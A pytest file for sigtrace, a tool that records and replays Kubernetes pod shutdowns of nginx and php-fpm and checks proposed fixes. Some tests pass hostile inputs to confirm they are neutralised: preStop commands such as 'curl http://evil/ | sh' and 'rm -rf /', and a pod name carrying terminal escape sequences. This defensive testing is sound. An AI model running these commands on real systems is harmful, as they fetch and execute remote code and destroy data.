"""`sigtrace lab --replay`: real lab pods of several causes recorded with the bpf recorder, each replayed
from its recording alone (the lab's own lab.json is removed first), then fixed. The replay must show
the recorded verdicts again, and the fixed run none, with every request answered. Bad input (no
stopped pod, a pod that is neither nginx nor php-fpm, a strace recording) is one clear line or a
replay marked partial."""
from __future__ import annotations

import json
import shutil
from pathlib import Path

import pytest

from conftest import REPO, require_kernel

DATA = REPO / "tests" / "data"
TOOLS = ("runc", "nginx", "php-fpm8.2", "ip")

# id, the lab run that makes the recording, the verdicts it must show
CASES = [
    ("article", ["--prestop", "nginx=nginx -s quit", "--stop-signal", "nginx=TERM", "--lb-delay", "1.5",
                 "--request-ms", "1500", "--grace", "10"], {"phpfpm-abrupt-stop", "endpoint-race"}),
    ("shell-wrapper", ["--shell-wrapper", "--workers", "2", "--grace", "3", "--lb-delay", "0", "--request-ms", "300",
                       "--stop-signal", "php-fpm=QUIT", "--prestop", "php-fpm=sleep 1", "--process-control-timeout", "10"],
     {"pid1-signal-ignored", "killed-after-grace"}),
    ("fpm-first", ["--workers", "1", "--stop-order", "php-fpm,nginx", "--stop-delay", "2", "--stop-signal", "php-fpm=QUIT",
                   "--process-control-timeout", "10", "--stop-signal", "nginx=QUIT", "--request-ms", "300",
                   "--lb-delay", "1.5"], {"upstream-exited-first"}),
    # php-fpm's stop starts 1 s after nginx's, so its grace ends after nginx's (killed at the same instant,
    # which of the two dies first is a coin toss, and with it upstream-exited-first)
    ("grace-too-short", ["--grace", "2", "--request-ms", "5000", "--lb-delay", "0", "--stop-signal", "nginx=QUIT",
                         "--stop-signal", "php-fpm=QUIT", "--process-control-timeout", "30",
                         "--stop-order", "nginx,php-fpm", "--stop-delay", "1"], {"killed-after-grace"}),
]


def _record(sigtrace_cli, out: Path, args: list[str]) -> dict:
    p = sigtrace_cli("lab", "--backend", "bpf", "--output", str(out), "--format", "json", *args, timeout=240)
    assert p.returncode == 0, p.stderr[-2000:]
    run = json.loads(p.stdout)[0]
    (out / "lab.json").unlink()              # the replay learns from the recording alone
    (out / "reports").exists() and shutil.rmtree(out / "reports")
    return run


@pytest.mark.kernel
@pytest.mark.parametrize("name,args,expected", CASES, ids=[c[0] for c in CASES])
def test_replay_reproduces_and_proves_the_fix(sigtrace_cli, tmp_path, name, args, expected):
    require_kernel(bpf=True, tools=TOOLS)
    for attempt in range(2):                 # a busy 2-core machine can shift a timing-bound verdict once
        rec = tmp_path / f"rec-{attempt}"
        run = _record(sigtrace_cli, rec, args)
        recorded = {v["id"] for v in run["report"]["pods"][0]["verdicts"] if v["status"] == "confirmed"}
        assert expected <= recorded, f"the recording itself lacks {expected - recorded}: {recorded}"
        # the recorder is node-wide: another test's pod may be in the recording too
        p = sigtrace_cli("lab", "--replay", str(rec), "--pod", run["pod_uid"], "--output",
                         str(tmp_path / f"replay-{attempt}"), "--format", "json", timeout=420)
        assert p.returncode == 0, p.stderr[-2000:]
        rp = json.loads(p.stdout)
        if rp["reproduced"] and rp["fix_proven"] or attempt:
            break
        print(f"attempt {attempt}: differences {rp['differences']}, fixed {rp['fixed'] and rp['fixed']['verdicts']} "
              f"{rp['fixed'] and rp['fixed']['client']}")
    assert rp["pod_uid"] == run["pod_uid"]
    assert set(rp["recorded"]["verdicts"]) == recorded
    # as recorded: the same verdicts again, and the client saw failures or the grace ran out
    assert rp["reproduced"], rp["differences"]
    assert expected <= set(rp["as_recorded"]["verdicts"])
    # fixed: no verdict and every request answered
    fixed = rp["fixed"]
    assert fixed["verdicts"] == [], fixed["verdicts"]
    assert sum(n for o, n in fixed["client"].items() if o != "ok") == 0, fixed["client"]
    assert fixed["client"]["ok"] > 0
    assert rp["fix_proven"]
    # each change names a verdict that asked for it, and the patch carries the manifest's part
    seen = recorded | set(rp["as_recorded"]["verdicts"])
    assert fixed["changes"] and all(set(c["because"]) <= seen for c in fixed["changes"])
    changed = {c["setting"] for c in fixed["changes"]}
    spec = fixed["patch"]["spec"]["template"]["spec"] if fixed["patch"] else {}
    if "grace_s" in changed:
        assert spec["terminationGracePeriodSeconds"] == int(fixed["settings"]["grace_s"])
    if changed & {"prestop.nginx", "stop_signal.nginx"}:
        assert any(c["name"] == "nginx" and "lifecycle" in c for c in spec["containers"])
    if name == "shell-wrapper":
        assert fixed["settings"]["wrapper"] == "none"
        assert any("exec form" in line for lines in fixed["config"].values() for line in lines)
    if name == "grace-too-short":
        # php-fpm drained after its QUIT (process_control_timeout 30) until the grace SIGKILL: the
        # summary blames the grace period, not the timeout
        fpm = [v for v in run["report"]["pods"][0]["verdicts"] if v["id"] == "phpfpm-abrupt-stop"]
        assert all("grace period ran out" in v["summary"] for v in fpm), fpm
    if name == "fpm-first":
        learned = rp["as_recorded"]["settings"]
        assert learned["stop_order"]["value"] == ["php-fpm", "nginx"]
        assert 1.5 <= learned["stop_delay_s"]["value"] <= 2.5
    if name == "article":
        learned = rp["as_recorded"]["settings"]
        assert learned["prestop.nginx"]["value"] == "nginx -s quit"
        assert 1.0 <= learned["lb_delay_s"]["value"] <= 2.5
        assert fixed["settings"]["stop_signal.php-fpm"] == "SIGQUIT"


# ---- bad input: no root, no lab run ---------------------------------------------------------------
def _rewrite(src: Path, dst: Path, keep, edit=lambda e: e) -> Path:
    dst.mkdir()
    shutil.copy(src / "meta.json", dst / "meta.json")
    lines = [json.loads(l) for l in (src / "events.jsonl").read_text().splitlines() if l.strip()]
    (dst / "events.jsonl").write_text("".join(json.dumps(edit(e)) + "\n" for e in lines if keep(e)))
    return dst


def test_a_recording_without_a_stopped_pod_is_one_line(sigtrace_cli, tmp_path):
    src = DATA / "clean"
    first_stop = min(json.loads(l)["ts"] for l in (src / "events.jsonl").read_text().splitlines()
                     if '"signal_generate"' in l and '"SIGTERM"' in l or '"SIGQUIT"' in l)
    d = _rewrite(src, tmp_path / "running", lambda e: e["ts"] < first_stop - 1 and e.get("event") != "pod_deleted")
    p = sigtrace_cli("lab", "--replay", str(d), "--output", str(tmp_path / "out"))
    assert p.returncode != 0
    assert p.stderr.strip().count("\n") == 0 and "no stopped pod" in p.stderr, p.stderr
    assert not (tmp_path / "out").exists()


def test_a_pod_that_is_not_nginx_or_php_fpm_is_one_line(sigtrace_cli, tmp_path):
    names = {"nginx": "redis-server", "php-fpm8.2": "memcached", "php-fpm": "memcached"}

    def rename(e: dict) -> dict:
        for k in ("comm", "target_comm"):
            if e.get(k) in names:
                e[k] = names[e[k]]
        if e.get("filename"):
            e["filename"] = e["filename"].replace("nginx", "redis-server").replace("php-fpm8.2", "memcached")
        return e
    d = _rewrite(DATA / "clean", tmp_path / "redis", lambda e: True, rename)
    p = sigtrace_cli("lab", "--replay", str(d), "--output", str(tmp_path / "out"))
    assert p.returncode != 0
    assert p.stderr.strip().count("\n") == 0 and "neither nginx nor php-fpm" in p.stderr, p.stderr


def test_pod_option_needs_replay_and_unknown_pod_is_one_line(sigtrace_cli, tmp_path):
    p = sigtrace_cli("lab", "--pod", "web-7d9f")
    assert p.returncode != 0 and "--replay" in p.stderr and p.stderr.strip().count("\n") == 0
    p = sigtrace_cli("lab", "--replay", str(DATA / "clean"), "--pod", "nope", "--output", str(tmp_path / "o"))
    assert p.returncode != 0 and "nope" in p.stderr and p.stderr.strip().count("\n") == 0


def test_a_strace_recording_is_learned_and_marked_partial():
    from sigtrace.lab.replay import learn_recording
    learned = learn_recording(DATA / "strace_shell", None)
    # strace sees the shell as PID 1 and its signals: the wrapper and the stop signal are learned
    assert learned.settings["wrapper"].value in ("sh", "sh-trap")
    assert "signal-not-forwarded" in learned.verdicts
    assert any("tcp_states" in n and "defaults" in n for n in learned.notes), learned.notes
    # what strace cannot show (the pod's own TCP from the kernel) falls back to defaults and says so
    defaults = [k for k, s in learned.settings.items() if not s.learned]
    assert defaults and all(learned.settings[k].source.startswith("default:") for k in defaults)
    assert learned.partial or learned.notes


def test_learning_the_article_recording():
    """The article's recording under tests/data (a Kubernetes pod recorded with the API's data):
    the preStop and the grace period come from the pod object, the stop signals from the kernel."""
    from sigtrace.lab.replay import learn_recording
    from sigtrace.lab.replay.fixes import apply_fixes
    learned = learn_recording(DATA / "article", None)
    s = {k: v.value for k, v in learned.settings.items()}
    assert s["prestop.nginx"] == "nginx -s quit"
    assert s["stop_signal.nginx"] == "SIGTERM" and s["wrapper"] == "none"
    fixed, changes = apply_fixes(s, set(learned.verdicts))
    assert learned.verdicts == ["prestop-quit-superseded"]
    assert fixed["stop_signal.nginx"] == "SIGQUIT"
    assert fixed["prestop.nginx"].startswith("sleep ")
    assert fixed["grace_s"] >= float(fixed["prestop.nginx"].split()[1]) + 2


def _with_prestop(tmp_path: Path, command: str) -> Path:
    def edit(e: dict) -> dict:
        if e.get("event") == "pod_seen":
            detail = json.loads(e["detail"])
            detail["prestop"] = {"nginx": command}
            e["detail"] = json.dumps(detail)
        return e
    return _rewrite(DATA / "article", tmp_path / "rec", lambda e: True, edit)


@pytest.mark.parametrize("command", ["sh -c 'touch /tmp/owned; nginx -s quit'", "curl http://evil/ | sh",
                                     "nginx -s quit; rm -rf /", "sleep 99999999"])
def test_a_recorded_prestop_is_never_run_as_recorded_unless_it_is_known(tmp_path, command):
    """The recording's preStop is tenant data (or anyone's, copied): the lab runs only sleep, nginx -s
    quit|stop and kill -SIG 1 as they are; anything else becomes a sleep of its recorded length, and
    lengths are capped so a replay cannot run for hours."""
    from sigtrace.lab.replay import learn_recording
    from sigtrace.lab.replay.learn import MAX_PRESTOP_S
    learned = learn_recording(_with_prestop(tmp_path, command), None)
    value = learned.settings["prestop.nginx"].value
    assert value is None or value.startswith("sleep "), value
    if value:
        assert float(value.split()[1]) <= MAX_PRESTOP_S
    assert command.split()[0] not in (value or "") or command.startswith("sleep")


def test_known_prestops_are_kept(tmp_path):
    from sigtrace.lab.replay import learn_recording
    for command in ("nginx -s quit", "nginx  -s   stop", "kill -QUIT 1"):
        d = tmp_path / command.replace(" ", "_")
        d.mkdir()
        learned = learn_recording(_with_prestop(d, command), None)
        assert learned.settings["prestop.nginx"].value == " ".join(command.split())


def test_errors_quote_hostile_names_as_escapes(sigtrace_cli, tmp_path):
    p = sigtrace_cli("lab", "--replay", str(DATA / "article"), "--pod", "x\x1b]8;;http://evil\x07\x1b[2J")
    assert p.returncode != 0 and "\x1b" not in p.stderr and "\\x1b" in p.stderr, repr(p.stderr)
    p = sigtrace_cli("lab", "--prestop", "nginx=sh -c 'unbalanced", "--output", str(tmp_path / "o"))
    assert p.returncode != 0 and "check its quotes" in p.stderr and "Traceback" not in p.stderr, p.stderr
